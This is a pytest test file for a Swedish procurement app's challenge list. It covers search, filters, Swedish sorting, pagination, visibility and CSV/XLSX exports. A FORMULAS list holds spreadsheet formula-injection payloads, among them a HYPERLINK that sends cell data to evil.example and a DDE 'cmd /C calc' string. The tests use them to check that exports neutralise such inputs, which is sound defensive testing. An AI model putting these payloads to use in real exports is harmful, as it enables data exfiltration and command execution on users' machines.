"""Finding challenges: Swedish-aware active search, filters, sort, pagination, visibility, exports."""

import csv
import io
from datetime import date

import openpyxl
import pytest

PARTIAL = {"HX-Request": "true", "HX-Request-Type": "partial"}


def _titles(client, query="", **headers):
    return client.get(f"/utmaningar/{query}", headers=headers).get_data(as_text=True)


def test_search_copes_with_inflection_and_compounds(client, auth, people, make_challenge):
    make_challenge(title="Skolskjutsar med elbuss")
    make_challenge(title="Upphandling av skolskjutstrafik", organisation="other")
    make_challenge(title="Städning av skolor", codes=("90919300",))
    auth.login("facilitator@example.org")
    html = _titles(client, "?q=skolskjuts", **PARTIAL)
    assert "Skolskjutsar med elbuss" in html and "skolskjutstrafik" in html and "Städning" not in html
    assert "<html" not in html and "2 träffar" in html
    by_cpv_label = _titles(client, "?q=passagerartransport")
    assert "Skolskjutsar med elbuss" in by_cpv_label and "Städning av skolor" not in by_cpv_label


def test_filters_sort_and_url_state(client, auth, people, areas, make_challenge):
    make_challenge(
        title="Skolmat",
        codes=("15894210",),
        need_area_id=areas["Livsmedel och måltider"],
        planned_year=2027,
        annual_volume_sek=5,
    )
    make_challenge(
        title="Elbussar",
        codes=("34144910",),
        need_area_id=areas["Fossilfria transporter"],
        planned_year=2028,
        annual_volume_sek=50,
        organisation="other",
    )
    make_challenge(title="Utkast", status="draft", codes=("15894210",))
    auth.login("facilitator@example.org")
    assert "Skolmat" in _titles(client, "?cpv=15") and "Elbussar" not in _titles(client, "?cpv=15")
    assert "Elbussar" in _titles(client, "?county=12") and "Skolmat" not in _titles(client, "?county=12")
    assert "Skolmat" not in _titles(client, "?year=2028")
    assert "Utkast" in _titles(client, "?status=draft") and "Skolmat" not in _titles(client, "?status=draft")
    need_area = _titles(client, f"?need_area={areas['Livsmedel och måltider']}")
    assert "Skolmat" in need_area and "Elbussar" not in need_area
    by_volume = _titles(client, "?sort=volume")
    assert by_volume.index("Elbussar") < by_volume.index("Skolmat")
    assert "selected>Störst volym först" in by_volume
    assert client.get("/utmaningar/?sort=x&year=abc&need_area=zz&page=-3").status_code == 200


def test_a_division_ending_in_zero_is_not_a_wider_branch(client, auth, people, make_challenge):
    make_challenge(title="Datorer", codes=("30213000",))
    make_challenge(title="Elbussar", codes=("34144910",))
    auth.login("facilitator@example.org")
    division = _titles(client, "?cpv=30000000")
    assert "Datorer" in division and "Elbussar" not in division
    assert "Elbussar" in _titles(client, "?cpv=34")


def test_pagination(client, auth, people, make_challenge):
    for n in range(27):
        make_challenge(title=f"Behov {n:02d}")
    auth.login("facilitator@example.org")
    first = _titles(client, "?sort=title")
    assert "Behov 24" in first and "Behov 25" not in first and "27 träffar" in first
    second = _titles(client, "?sort=title&page=2", **PARTIAL)
    assert "Behov 25" in second and "Behov 00" not in second


def test_buyers_see_own_and_public_published_only(client, auth, people, make_challenge):
    make_challenge(title="Eget utkast", status="draft")
    make_challenge(title="Annans utkast", status="draft", organisation="other")
    make_challenge(title="Annans interna", organisation="other", visibility="staff")
    make_challenge(title="Annans publika", organisation="other")
    make_challenge(title="Annans arkiverade", organisation="other", status="archived")
    auth.login("buyer@example.org")
    html = _titles(client)
    assert "Eget utkast" in html and "Annans publika" in html
    for hidden in ["Annans utkast", "Annans interna", "Annans arkiverade"]:
        assert hidden not in html
    assert "Annans utkast" not in _titles(client, "?status=draft")


def test_empty_list(client, auth, people):
    auth.login("buyer@example.org")
    assert "Inga utmaningar matchar sökningen." in _titles(client)


def test_exports_follow_the_filter_and_keep_types(client, auth, people, make_challenge):
    make_challenge(title="Skolmat", codes=("15894210",), annual_volume_sek=1_250_000, planned_year=2027)
    make_challenge(title="Elbussar", codes=("34144910",))
    auth.login("facilitator@example.org")
    response = client.get("/utmaningar/export.csv?q=skolmat")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once, not twice
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:3] == ["Id", "Titel", "Organisation"] and len(rows) == 2
    assert rows[1][1] == "Skolmat" and rows[1][6] == "15894210" and rows[1][8] == "1250000"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/utmaningar/export.xlsx").data))
    sheet = book["Utmaningar"]
    header = [c.value for c in sheet[1]]
    assert header[1] == "Titel" and sheet.max_row == 3
    values = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["Skolmat"][8] == 1_250_000 and isinstance(values["Skolmat"][9], int)
    assert isinstance(values["Skolmat"][11], date) or values["Skolmat"][11].date()


def test_title_sort_is_swedish(client, auth, people, make_challenge):
    for title in ["Örebro behov", "Ale behov", "Åtgärd", "Zink", "Äldreomsorg"]:
        make_challenge(title=title)
    auth.login("facilitator@example.org")
    html = _titles(client, "?sort=title")
    positions = [html.index(t) for t in ["Ale behov", "Zink", "Åtgärd", "Äldreomsorg", "Örebro behov"]]
    assert positions == sorted(positions)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+46 8 123",
    "-2+3",
    "\tTabb först",
]


def test_a_long_list_is_exported_by_the_worker_and_downloaded_from_the_job_page(
    app, client, auth, people, make_challenge
):
    from tests.conftest import csrf_token_from, page_text, run_jobs

    app.config["EXPORT_IN_REQUEST_ROWS"] = 2
    for n in range(3):
        make_challenge(title=f"Skolmat {n}")
    make_challenge(title="Städning")
    auth.login("facilitator@example.org")
    offer = client.get("/utmaningar/export.xlsx?q=skolmat")
    assert offer.status_code == 200 and offer.headers["Content-Type"].startswith("text/html")
    assert "Listan har 3 utmaningar." in page_text(offer.get_data(as_text=True))
    queued = client.post(
        "/utmaningar/export.xlsx?q=skolmat", data={"csrf_token": csrf_token_from(offer.get_data(as_text=True))}
    )
    assert queued.status_code == 303 and queued.headers["Location"].startswith("/jobb/")
    job_page = queued.headers["Location"]
    assert "Ladda ner" not in client.get(job_page).get_data(as_text=True)
    assert client.get(job_page + "/fil").status_code == 404  # not made yet
    assert run_jobs(app) == 1
    page = page_text(client.get(job_page).get_data(as_text=True))
    assert "Export av utmaningar" in page and "Ladda ner utmaningar-" in page
    download = client.get(job_page + "/fil")
    assert download.status_code == 200 and "attachment" in download.headers["Content-Disposition"]
    rows = list(openpyxl.load_workbook(io.BytesIO(download.data)).active.iter_rows(values_only=True))
    assert sorted(row[1] for row in rows[1:]) == ["Skolmat 0", "Skolmat 1", "Skolmat 2"]
    auth.logout()
    auth.login("manager@example.org")
    assert client.get(job_page + "/fil").status_code == 404  # only for the one who asked (or an admin)


@pytest.mark.parametrize("title", FORMULAS)
def test_exports_never_hand_a_spreadsheet_a_formula(client, auth, people, make_challenge, title):
    make_challenge(title=title, annual_volume_sek=1_250_000)
    auth.login("facilitator@example.org")
    rows = list(csv.reader(io.StringIO(client.get("/utmaningar/export.csv").get_data(as_text=True)), delimiter=";"))
    assert rows[1][1] == "'" + title and rows[1][8] == "1250000"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/utmaningar/export.xlsx").data))["Utmaningar"]
    title_cell, volume_cell = sheet.cell(row=2, column=2), sheet.cell(row=2, column=9)
    assert title_cell.data_type == "s" and title_cell.value == "'" + title  # text, never a formula
    assert volume_cell.value == 1_250_000  # numbers stay numbers


def test_a_control_character_in_a_title_does_not_break_the_workbook(client, auth, people, make_challenge):
    make_challenge(title="Skolskjuts \x1b[31m med ESC")
    auth.login("facilitator@example.org")
    response = client.get("/utmaningar/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Utmaningar"]
    assert sheet.cell(row=2, column=2).value == "Skolskjuts [31m med ESC"


def test_safe_cells_keep_numbers_and_dates_typed():
    from datetime import datetime

    from blueprints.core.downloads import safe_cell

    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell(datetime(2026, 9, 8)) == datetime(2026, 9, 8)
    assert safe_cell("-28,6") == "-28,6" and safe_cell("-2+3") == "'-2+3"
    assert safe_cell("Skolmat") == "Skolmat" and safe_cell("a\x00b\x1bc") == "abc"
